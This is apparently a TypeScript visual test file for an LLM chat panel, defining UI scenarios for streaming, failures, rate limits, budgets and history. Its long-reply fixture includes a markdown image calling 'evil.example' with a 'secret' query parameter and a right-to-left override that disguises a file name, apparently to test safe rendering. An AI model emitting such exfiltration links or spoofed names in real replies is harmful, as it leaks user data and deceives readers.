import type { BudgetView, PanelView, QuoteView } from '../../src/protocol/views';
import type { PanelPage } from './panelPage';
import {
  budget,
  emptyView,
  firstExchange,
  forkView,
  history,
  historyAnswer,
  live,
  notice,
  panelView,
  question,
  quote,
  reply,
  selection,
  searchHit,
  streamingReply,
  streamingView,
  telemetryAnswer,
} from './viewFixtures';

export interface Picture {
  readonly name: string;
  readonly widths: readonly number[];
  view(): PanelView;
  act?(panel: PanelPage): Promise<void>;
}

const longReply = `## What happens

The parser keeps **three** states, and the *last* one is never left:

1. Read a line until CR, LF or CRLF.
2. Append it to \`data\`:
   \`\`\`ts
   data += line.slice(5).trimStart() + "\\n";
   \`\`\`
3. On an empty line, emit.
   - also on \`close\`
   - never on \`error\`

| stream ends with | event emitted | per the specification |
| --- | :-: | --: |
| blank line | yes | yes |
| one line feed | no | no |
| nothing, and a very long cell that cannot fit | no | no |

> An incomplete event at the end of the stream is discarded.

See https://html.spec.whatwg.org/multipage/server-sent-events.html#parsing-an-event-stream and [the tests](https://github.com/web-platform-tests/wpt).

![tracker](https://evil.example/p.png?d=secret)

\`\`\`python
def flush(self) -> list[Event]:
    """Everything that is left, and a line that is too long for a narrow panel to show at once."""
    return [Event(self.data)] if self.data else []
\`\`\`

### Conclusion

Aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa and a hidden \u202egnp.exe\u202c mark.`;

const failedView = (): PanelView =>
  panelView({
    conversation: {
      entries: [
        ...firstExchange,
        question('And for CRLF?'),
        reply('The specification accepts CR, LF and', {
          id: 'r-cut',
          state: 'interrupted',
          costText: 'cost pending',
          costSource: 'pending',
          completionTokens: null,
          failure: notice({
            code: 'NETWORK',
            severity: 'error',
            title: 'The connection was cut.',
            detail: 'The text so far is kept. Nothing is sent again by itself.',
            actions: [
              { action: 'showLog', label: 'Show log' },
              { action: 'retry', label: 'Retry' },
            ],
          }),
        }),
        question('Again, please'),
        reply('', {
          id: 'r-failed',
          state: 'failed',
          costText: '$0.0000',
          latencyMs: 310,
          completionTokens: null,
          failure: notice({
            code: 'RATE_LIMITED',
            severity: 'warning',
            title: 'The model is rate-limited.',
            detail: 'Free models take 20 requests a minute. Send again in 12 s.',
            actions: [
              { action: 'retry', label: 'Retry' },
              { action: 'selectModel', label: 'Choose another model' },
            ],
          }),
        }),
      ],
    },
    budget: budget({
      spentText: '$4.4120',
      pendingText: '$0.0121',
      fraction: 0.8824,
      unsettledFraction: 0.0024,
      level: 'warning',
    }),
    banner: notice({
      code: 'STORE_READ_ONLY',
      title: 'History cannot be written.',
      detail: 'The disk is full. Work goes on in memory.',
      actions: [{ action: 'showLog', label: 'Show log' }],
    }),
  });

/** Created when rendered because countdowns end at a point in time. */
const inAMoment = (seconds: number): number => Date.now() + seconds * 1000;

const attempts = [
  'anthropic/claude-sonnet-5 was overloaded, so openai/gpt-5.2-mini was asked.',
  'Rate limited; asked again after 12 s.',
];

const retriesView = (): PanelView =>
  panelView({
    conversation: {
      entries: [
        ...firstExchange,
        question('And for CRLF?'),
        reply(
          'The specification accepts CR, LF and CRLF, so a CR that ends one chunk may be the first half of a pair.',
          { id: 'r-again', attempts, model: 'openai/gpt-5.2-mini', continues: 'r-cut', continuedCostText: '$0.0021' },
        ),
        question('Again, please'),
        reply('', {
          id: 'r-limited',
          state: 'failed',
          costText: '',
          latencyMs: 310,
          completionTokens: null,
          failure: notice({
            code: 'RATE_LIMIT',
            title: 'The provider asks to slow down.',
            detail: 'The provider says: 20 requests a minute',
            waitUntilMs: inAMoment(42),
            actions: [
              { action: 'retry', label: 'Try again' },
              { action: 'switchModel', label: 'Ask openai/gpt-5.2-mini' },
            ],
          }),
        }),
        reply('The first half of a sentence that', {
          id: 'r-cut',
          state: 'interrupted',
          costText: 'cost pending',
          costSource: 'pending',
          completionTokens: null,
          canContinue: true,
          failure: notice({
            code: 'TRUNCATED',
            title: 'The reply was cut off.',
            detail: 'The text so far is kept; its cost is pending. Trying again is a new purchase.',
            actions: [
              { action: 'continueReply', label: 'Continue' },
              { action: 'retry', label: 'Try again' },
            ],
          }),
        }),
      ],
    },
    circuit: { state: 'open', failures: 5, threshold: 5, untilMs: inAMoment(23) },
  });

const waitingView = (more: Partial<Parameters<typeof live>[0]> = {}): PanelView =>
  panelView({
    live: live({
      phase: 'waiting',
      tokensPerSecond: 0,
      velocity: [],
      elapsedMs: 4_000,
      waitMs: 12_000,
      retryText: 'anthropic/claude-sonnet-5 was overloaded; openai/gpt-5.2-mini is next',
      costText: '',
      ...more,
    }),
    conversation: { entries: [question('Prove it.'), streamingReply('', { costText: '', attempts: [attempts[0]!] })] },
    circuit: { state: 'halfOpen', failures: 5, threshold: 5, untilMs: null },
  });

const HISTORY = history();

async function openHistory(panel: PanelPage): Promise<void> {
  // Another picture may have left it open.
  for (let press = 0; press < 4 && (await panel.page.getByRole('dialog').count()) > 0; press++)
    await panel.page.keyboard.press('Escape');
  await panel.answer('listConversations', historyAnswer(HISTORY));
  await panel.page.getByRole('button', { name: 'History' }).click();
  await panel.page.getByText('First steps').waitFor();
}

/** Presses a key on the third row. */
async function actOnRow(panel: PanelPage, key: string): Promise<void> {
  await openHistory(panel);
  for (const step of ['ArrowDown', 'ArrowDown', 'ArrowDown']) await panel.page.keyboard.press(step);
  await panel.page.keyboard.press(key);
}

const quotes: readonly (readonly [name: string, quote: QuoteView, text?: string])[] = [
  ['Ok', quote()],
  [
    'PriceUnknown',
    quote({
      costText: 'price unknown',
      level: 'refused',
      detail: 'The price of acme/very-long-model-name-preview:free is not known.',
    }),
  ],
  [
    'Shortened',
    quote({ costText: '≤ $0.0120', level: 'shortened', detail: 'Budget leaves ≈ 900 tokens for the reply.' }),
  ],
  ['Refused', quote({ costText: '≤ $0.0460', level: 'refused', detail: 'Today’s budget does not cover this.' })],
  [
    'Long',
    quote({
      tokensText: '≈ 1,048,576',
      costText: '≤ $12.4051',
      level: 'refused',
      detail: 'This does not fit the model’s window.',
    }),
    'A long line of text that goes on. '.repeat(90),
  ],
];

const budgets: readonly (readonly [name: string, budget: Partial<BudgetView>])[] = [
  [
    'Pending',
    {
      spentText: '$3.1020',
      reservedText: '$0.0460',
      pendingText: '$1.5710',
      fraction: 0.62,
      unsettledFraction: 0.323,
      keyText: '$20.00 left of $25.00, monthly',
    },
  ],
  [
    'Exhausted',
    { spentText: '$5.0120', reservedText: '$0.2200', fraction: 1.0024, unsettledFraction: 0.044, level: 'exhausted' },
  ],
  ['Unlimited', { limitText: null, pendingText: '$0.0121', fraction: 0, level: 'unlimited' }],
  ['Month', { period: 'month', spentText: '$18.2011', limitText: '$20.00', fraction: 0.91, level: 'warning' }],
];

export const pictures: readonly Picture[] = [
  { name: 'empty', widths: [300, 420, 1200], view: () => emptyView() },
  {
    name: 'emptyKey',
    widths: [300, 420],
    view: () => emptyView({ connection: { origin: 'http://127.0.0.1:4010', isOpenRouter: false, needsKey: true } }),
  },
  {
    name: 'reply',
    widths: [300, 420, 1200],
    view: () => panelView({ conversation: { entries: [...firstExchange] }, attachments: [selection] }),
  },
  { name: 'streaming', widths: [300, 340, 420, 1200], view: () => streamingView() },
  {
    name: 'thinking',
    widths: [340],
    view: () =>
      panelView({
        live: live({ phase: 'thinking', tokensPerSecond: 0, velocity: [], elapsedMs: 34_000 }),
        conversation: {
          entries: [question('Prove it.'), streamingReply('', { reasoning: 'Let me think about it. '.repeat(40) })],
        },
      }),
  },
  { name: 'waiting', widths: [210, 300, 420, 1200], view: () => waitingView() },
  { name: 'waitingShort', widths: [300], view: () => waitingView({ retryText: 'Rate limited; trying again' }) },
  {
    name: 'silent',
    widths: [300, 1200],
    view: () =>
      panelView({
        live: live({ phase: 'connecting', tokensPerSecond: 0, velocity: [], elapsedMs: 47_000, costText: '' }),
        conversation: { entries: [question('Prove it.'), streamingReply('', { costText: '' })] },
      }),
  },
  {
    name: 'retries',
    widths: [210, 300, 420, 900, 1200, 1600],
    view: retriesView,
    act: (panel) => panel.answer('telemetry', telemetryAnswer()),
  },
  {
    name: 'circuitOpen',
    widths: [210, 300, 1200],
    view: () =>
      panelView({
        conversation: { entries: [...firstExchange] },
        quote: quote({ level: 'refused', detail: 'This model has failed repeatedly.', waitUntilMs: inAMoment(23) }),
        circuit: { state: 'open', failures: 5, threshold: 5, untilMs: inAMoment(23) },
      }),
    async act(panel) {
      await panel.answer(
        'telemetry',
        telemetryAnswer({ ended: { complete: 0, interrupted: 0, cancelled: 0, failed: 0 } }),
      );
      await panel.page.getByRole('textbox', { name: 'Message' }).fill('Why is the last event lost?');
    },
  },
  {
    name: 'telemetryDrawer',
    widths: [300, 420],
    view: retriesView,
    async act(panel) {
      await panel.answer('telemetry', telemetryAnswer());
      const button = panel.page.getByRole('button', { name: 'Telemetry' });
      // A wide panel always shows it.
      if (await button.isVisible()) await button.click();
      await panel.page.getByText('Overloaded', { exact: true }).waitFor();
    },
  },
  { name: 'failure', widths: [300, 420, 1200], view: failedView },
  {
    name: 'long',
    widths: [300, 420, 1200],
    view: () =>
      panelView({
        conversation: {
          entries: [
            question('Explain everything.'),
            reply(longReply, { reasoning: 'First I read the specification.', omittedMessages: 12 }),
          ],
        },
      }),
  },
  {
    name: 'longStart',
    widths: [300, 1200],
    view: () =>
      panelView({
        theme: 'editor',
        conversation: {
          entries: [
            question('Explain everything.'),
            reply(longReply, { reasoning: 'First I read the specification.\nThen I think.', omittedMessages: 12 }),
          ],
        },
      }),
    async act(panel) {
      await panel.page.getByRole('button', { name: /Reasoning/ }).click();
      await panel.page.getByRole('log').focus();
      await panel.page.keyboard.press('Home');
      await panel.rest();
    },
  },
  { name: 'fork', widths: [300, 420, 1200], view: forkView },
  {
    name: 'entryTools',
    widths: [300, 1200],
    view: forkView,
    async act(panel) {
      await panel.page.locator('[data-entry-id="q-crlf"] [data-action="edit"]').focus();
      await panel.page.locator('[data-entry-id="r-crlf"] [data-part="text"]').hover();
    },
  },
  {
    name: 'editQuestion',
    widths: [300, 1200],
    view: forkView,
    async act(panel) {
      await panel.answer('edit', {
        kind: 'refused',
        notice: notice({ title: 'Sent twice?', detail: 'Two seconds must lie between two messages.' }),
      });
      await panel.page.locator('[data-entry-id="q-crlf"] [data-action="edit"]').dispatchEvent('click');
      await panel.page
        .getByRole('textbox', { name: 'Edit question' })
        .fill('And for CR alone, or a CRLF that is cut in two\nby the end of a chunk?');
      await panel.page.keyboard.press('Enter');
      await panel.page.getByRole('alert').waitFor();
    },
  },
  {
    name: 'find',
    widths: [300, 1200],
    view: forkView,
    async act(panel) {
      await panel.page.keyboard.press('Control+f');
      await panel.page.keyboard.type('event');
      await panel.page.getByText('/', { exact: false }).first().waitFor();
      await panel.page.keyboard.press('Enter');
    },
  },
  {
    name: 'history',
    widths: [300, 420, 1200],
    view: () => streamingView(),
    async act(panel) {
      await openHistory(panel);
      await panel.page.keyboard.press('ArrowDown');
      await panel.page.keyboard.press('ArrowDown');
    },
  },
  {
    name: 'historyHits',
    widths: [300, 420, 1200],
    view: () => streamingView(),
    async act(panel) {
      await openHistory(panel);
      await panel.answer('search', {
        kind: 'hits',
        complete: false,
        conversations: HISTORY.slice(2, 3),
        hits: [
          searchHit(),
          searchHit({
            messageId: 'm-8',
            role: 'user',
            costText: '',
            title: 'Regex that is linear on hostile input, with an explanation',
            runLabel: 'R·0414',
            excerpt: ['Which ', 'requests', ' are retried?'],
          }),
          searchHit({ messageId: 'm-9', archived: true, runLabel: 'R·0012' }),
        ],
      });
      await panel.page.keyboard.type('request');
      await panel.page.getByText('In messages').waitFor();
      await panel.page.keyboard.press('ArrowDown');
      await panel.page.keyboard.press('ArrowDown');
    },
  },
  {
    name: 'historyNoHits',
    widths: [300],
    view: () => streamingView(),
    async act(panel) {
      await openHistory(panel);
      await panel.answer('search', { kind: 'hits', complete: true, conversations: [], hits: [] });
      await panel.page.keyboard.type('tag:nothing xylophone');
      await panel.page.getByText('No results').waitFor();
    },
  },
  {
    name: 'historyArchive',
    widths: [300],
    view: () => streamingView(),
    async act(panel) {
      await openHistory(panel);
      await panel.answer('listConversations', { kind: 'conversations', conversations: [], total: 0, archivedTotal: 0 });
      await panel.page
        .getByRole('button', { name: /^Archived/ })
        .first()
        .click();
      await panel.page.getByText('The archive is empty').waitFor();
    },
  },
  { name: 'historyRename', widths: [300], view: () => streamingView(), act: (panel) => actOnRow(panel, 'F2') },
  { name: 'historyTag', widths: [300], view: () => streamingView(), act: (panel) => actOnRow(panel, 't') },
  { name: 'historyDelete', widths: [300], view: () => streamingView(), act: (panel) => actOnRow(panel, 'Delete') },
  {
    name: 'historyUndo',
    widths: [300],
    view: () => streamingView(),
    async act(panel) {
      await actOnRow(panel, 'Delete');
      await panel.page.keyboard.press('Enter');
      await panel.page.getByRole('button', { name: /^Undo/ }).waitFor();
    },
  },
  ...quotes.map(([name, quoted, text = 'Why is the last event lost?'], index): Picture => ({
    name: `quote${name}`,
    widths: index === 0 ? [210, 300, 420, 1200] : [210, 300, 1200],
    view: () => panelView({ conversation: { entries: [...firstExchange] }, quote: quoted }),
    act: (panel) => panel.page.getByRole('textbox', { name: 'Message' }).fill(text),
  })),
  ...budgets.map(([name, shown]): Picture => ({
    name: `budget${name}`,
    widths: [210, 300, 1200],
    view: () => panelView({ conversation: { entries: [...firstExchange] }, budget: budget(shown) }),
  })),
  {
    name: 'refused',
    widths: [340],
    view: () => panelView({ conversation: { entries: [...firstExchange] } }),
    async act(panel) {
      await panel.answer('send', {
        kind: 'refused',
        notice: notice({
          code: 'BUDGET_EXCEEDED',
          severity: 'error',
          title: 'The budget does not cover this reply.',
          detail: '$0.0120 are left of $5.00; this reply could cost $0.0460.',
          actions: [
            { action: 'openBudgetMenu', label: 'Change budget' },
            { action: 'selectModel', label: 'Cheaper model' },
          ],
        }),
      });
      await panel.page
        .getByRole('textbox', { name: 'Message' })
        .fill('And what would a TransformStream look like?\nTwo lines are kept.');
      await panel.page.keyboard.press('Enter');
    },
  },
];
